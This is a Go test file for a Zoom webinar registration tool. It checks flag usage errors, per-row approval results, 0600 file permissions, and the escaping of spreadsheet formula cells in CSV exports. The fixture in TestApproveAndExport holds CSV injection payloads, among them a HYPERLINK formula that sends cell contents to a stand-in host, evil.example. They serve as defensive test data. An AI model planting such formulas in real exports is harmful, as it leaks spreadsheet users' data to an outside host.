package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/zoomgen/zoom/zoomtest"
)

// mockEnv is the environment pointing zoom-register at srv.
func mockEnv(srv *zoomtest.Server) func(string) string {
	d := zoomtest.DemoCredentials
	return env("ZOOM_ACCOUNT_ID", d.AccountID, "ZOOM_CLIENT_ID", d.ClientID, "ZOOM_CLIENT_SECRET", d.ClientSecret,
		"ZOOM_API_URL", srv.BaseURL(), "ZOOM_TOKEN_URL", srv.TokenURL(), "ZOOM_PLAN", "unlimited")
}

func TestLifecycleUsageErrors(t *testing.T) {
	in := writeFile(t, "a.csv", "email\na@example.com\n")
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"-meeting", "1", "-webinar", "2", "-in", in, "-out", "r.csv"}, "-meeting and -webinar: give one of them"},
		{[]string{"-webinar", "-3", "-in", in, "-out", "r.csv"}, "-webinar -3"},
		{[]string{"-action", "approved", "-in", in, "-out", "r.csv"}, `-action "approved": want approve, deny or cancel`},
		{[]string{"-action", "deny", "-export", "-out", "r.csv"}, "-export and -action"},
		{[]string{"-export", "-in", in, "-out", "r.csv"}, "-export reads no -in"},
		{[]string{"-export"}, "-out is required"},
		{[]string{"-action", "approve", "-out", "r.csv"}, "-in is required"},
		{[]string{"-action", "approve", "-auto-approve", "-in", in, "-out", "r.csv"}, "-auto-approve and -dry-run are for registering"},
		{[]string{"-action", "approve", "-in", writeFile(t, "h.csv", "mail\nx\n"), "-out", "r.csv"}, `no "email" column`},
	} {
		code, _, stderr := runCmd(t, env(), tc.args...)
		if code != exitUsage || !strings.Contains(stderr, tc.want) {
			t.Errorf("%q: exit %d, stderr %q; want %d and %q", tc.args, code, stderr, exitUsage, tc.want)
		}
	}
}

// TestRegisterWebinarDemo: -webinar registers for the demo mock's webinar.
func TestRegisterWebinarDemo(t *testing.T) {
	out := filepath.Join(t.TempDir(), "r.csv")
	code, stdout, stderr := runCmd(t, env(), "-webinar", fmt.Sprint(zoomtest.WebinarScheduled), "-in", "../../examples/attendees.csv", "-out", out)
	if code != exitOK || !strings.Contains(stdout, fmt.Sprintf("webinar %d [DEMO MODE", zoomtest.WebinarScheduled)) || !strings.Contains(stdout, ": 97 registered") {
		t.Errorf("exit %d\n%s\n%s", code, stdout, stderr)
	}
}

// TestApproveAndExport: -action approve on a list with a registrant, one
// already approved, a stranger, a duplicate and a bad row, then -export,
// against one mock: the files say what happened to each, every cell a
// spreadsheet would run is neutralised (and -csv-raw keeps them exact),
// and both files are owner-only.
func TestApproveAndExport(t *testing.T) {
	srv := zoomtest.NewServer(t, zoomtest.Options{})
	srv.AddRegistrants(zoomtest.WebinarScheduled, []zoomtest.Registrant{
		{Email: "ann@example.com", FirstName: `=HYPERLINK("http://evil.example/?x="&A1)`, LastName: "-5", Status: "pending"},
		{Email: "bob@example.com", FirstName: "Bob", Status: "approved"},
		{Email: "cy@example.com", FirstName: "Cy", Status: "denied"},
	})
	dir := t.TempDir()
	in := writeFile(t, "approve.csv", "email,note\nann@example.com,@SUM(1+1)\nbob@example.com,\nnobody@example.com,\nANN@example.com,again\nnot-an-email,\n")
	out := filepath.Join(dir, "approved.csv")
	web := fmt.Sprint(zoomtest.WebinarScheduled)
	code, stdout, stderr := runCmd(t, mockEnv(srv), "-webinar", web, "-action", "approve", "-in", in, "-out", out)
	if code != exitProblems || !strings.Contains(stdout, "1 changed, 1 unchanged, 1 not registrants, 1 duplicates") {
		t.Fatalf("approve: exit %d\n%s\n%s", code, stdout, stderr)
	}
	recs := readCSV(t, out)
	status, note := column(t, recs[0], "status"), column(t, recs[0], "note")
	for i, want := range []string{"changed", "unchanged", "not_registrant", "duplicate", "invalid"} {
		if recs[i+1][status] != want {
			t.Errorf("row %d: %q, want %q", i+1, recs[i+1][status], want)
		}
	}
	if recs[1][note] != "'@SUM(1+1)" {
		t.Errorf("note %q, want it neutralised", recs[1][note])
	}
	if n := srv.StatusChanges(zoomtest.WebinarScheduled, "ann@example.com"); n != 1 {
		t.Errorf("ann changed %d times, want 1", n)
	}

	exp := filepath.Join(dir, "registrants.csv")
	code, stdout, stderr = runCmd(t, mockEnv(srv), "-webinar", web, "-export", "-out", exp)
	if code != exitOK || !strings.Contains(stdout, "3 registrant(s) exported") {
		t.Fatalf("export: exit %d\n%s\n%s", code, stdout, stderr)
	}
	rows := readCSV(t, exp)
	first, last, st := column(t, rows[0], "first_name"), column(t, rows[0], "last_name"), column(t, rows[0], "status")
	got := map[string][]string{}
	for _, r := range rows[1:] {
		got[r[0]] = r
	}
	if r := got["ann@example.com"]; r == nil || r[first] != `'=HYPERLINK("http://evil.example/?x="&A1)` || r[last] != "'-5" || r[st] != "approved" {
		t.Errorf("ann: %q", r)
	}
	if got["cy@example.com"] == nil || got["cy@example.com"][st] != "denied" || len(got) != 3 {
		t.Errorf("export: %q", rows)
	}
	raw := filepath.Join(dir, "registrants-raw.csv")
	if code, _, stderr := runCmd(t, mockEnv(srv), "-webinar", web, "-export", "-csv-raw", "-out", raw); code != exitOK {
		t.Fatalf("export -csv-raw: exit %d\n%s", code, stderr)
	}
	for _, r := range readCSV(t, raw)[1:] {
		if r[0] == "ann@example.com" && (r[first] != `=HYPERLINK("http://evil.example/?x="&A1)` || r[last] != "-5") {
			t.Errorf("-csv-raw: %q", r)
		}
	}
	for _, f := range []string{out, exp, raw} {
		if fi, err := os.Stat(f); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v, mode %v; want 0600", filepath.Base(f), err, fi.Mode().Perm())
		}
	}
	code, _, stderr = runCmd(t, mockEnv(srv), "-webinar", fmt.Sprint(zoomtest.WebinarMissing), "-export", "-out", filepath.Join(dir, "none.csv"))
	if code != exitProblems || !strings.Contains(stderr, "3001") {
		t.Errorf("export of an unknown webinar: exit %d, %s", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "none.csv")); !os.IsNotExist(err) {
		t.Errorf("a failed export left a file: %v", err)
	}
}
